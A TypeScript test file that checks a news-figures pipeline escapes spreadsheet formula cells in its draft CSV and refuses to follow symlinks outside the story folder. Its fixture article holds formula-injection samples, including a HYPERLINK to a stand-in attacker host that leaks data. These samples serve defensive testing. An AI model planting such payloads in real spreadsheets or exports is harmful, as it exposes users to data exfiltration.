import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { csvParseRows } from "d3-dsv";
import { afterAll, describe, expect, it } from "vitest";
import { loadStory } from "../pipeline/story.ts";
import { command } from "./helpers/story.ts";

const figures = (args: string[]) => command("figures", args);

const root = mkdtempSync(join(tmpdir(), "draft-safety-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** A story whose sentences a spreadsheet would take for formulas, with one figure no row records. */
function story(name: string): string {
  const data = join(root, name);
  mkdirSync(join(data, "sources"), { recursive: true });
  writeFileSync(
    join(data, "article.txt"),
    [
      "date 2024-03-14",
      "Floods hit the valley on Monday.",
      "",
      '=HYPERLINK("http://evil.example/?leak", "12 people were injured on Monday").',
      "",
      "@SUM(1+1) 40 homes were destroyed on Tuesday, officials said.",
      "",
      "+30 families were evacuated on Monday, the mayor said.",
      "",
    ].join("\n"),
  );
  writeFileSync(
    join(data, "figures.csv"),
    "id,metric,category,value,qualifier,unit,start,end,attributed_to,quote,source,restates\n",
  );
  writeFileSync(join(data, "charts.json"), '{ "charts": [] }\n');
  return data;
}

describe("figures.draft.csv, made to be opened in a spreadsheet", () => {
  it("escapes every cell a spreadsheet would run as a formula, as the output CSVs do; plain numbers stay numbers", () => {
    const data = story("formulas");
    const run = figures(["--data", data, "--draft"]);
    expect(run.status, run.stderr).toBe(0);
    const rows = csvParseRows(readFileSync(join(data, "figures.draft.csv"), "utf8"));
    const cells = rows.slice(1).flat();
    expect(cells.length).toBeGreaterThan(0);
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));
    expect(formulas).toEqual([]);
    expect(cells.some((cell) => cell.startsWith("'=HYPERLINK("))).toBe(true);
    // The value cells stay plain numbers.
    const value = rows[0].indexOf("value");
    for (const row of rows.slice(1)) expect(row[value]).toMatch(/^\d+$/);
  });

  it("builds once its rows are copied into figures.csv: a quote written '= is read as the text it escapes", () => {
    const data = story("copied");
    expect(figures(["--data", data, "--draft"]).status).toBe(0);
    const draft = readFileSync(join(data, "figures.draft.csv"), "utf8");
    writeFileSync(join(data, "figures.csv"), draft);
    const chart = { id: "injured", kind: "bars", title: "Injured", figures: ["people_injured_mon"] };
    writeFileSync(join(data, "charts.json"), JSON.stringify({ charts: [chart] }));
    const proven = loadStory(data, { today: "2024-03-14" });
    expect(proven.figures.map((f) => f.quote).find((q) => q.startsWith("=HYPERLINK"))).toBeDefined();
  });
});

describe("npm run figures --draft and links", () => {
  it("replaces a figures.draft.csv that links to a file outside the story folder, never writing that file", () => {
    const data = story("linked");
    const outside = join(root, "precious.txt");
    writeFileSync(outside, "keep me\n");
    symlinkSync(outside, join(data, "figures.draft.csv"));
    expect(figures(["--data", data, "--draft"]).status).toBe(0);
    expect(readFileSync(outside, "utf8")).toBe("keep me\n");
    expect(lstatSync(join(data, "figures.draft.csv")).isSymbolicLink()).toBe(false);
    expect(readFileSync(join(data, "figures.draft.csv"), "utf8")).toMatch(/^id,metric,/);
  });

  it("never creates the file a dangling figures.draft.csv link points to", () => {
    const data = story("dangling");
    const outside = join(root, "created-outside.csv");
    symlinkSync(outside, join(data, "figures.draft.csv"));
    expect(figures(["--data", data, "--draft"]).status).toBe(0);
    expect(existsSync(outside)).toBe(false);
    expect(lstatSync(join(data, "figures.draft.csv")).isFile()).toBe(true);
  });

  it("says so in one line, exit 1, when figures.draft.csv is a folder", () => {
    const data = story("folder");
    mkdirSync(join(data, "figures.draft.csv"));
    const run = figures(["--data", data, "--draft"]);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(
      `cannot write ${join(data, "figures.draft.csv")}: ${join(data, "figures.draft.csv")} is a folder; move it aside; nothing was written`,
    );
    expect(run.stderr).not.toMatch(/^\s+at /m);
  });
});
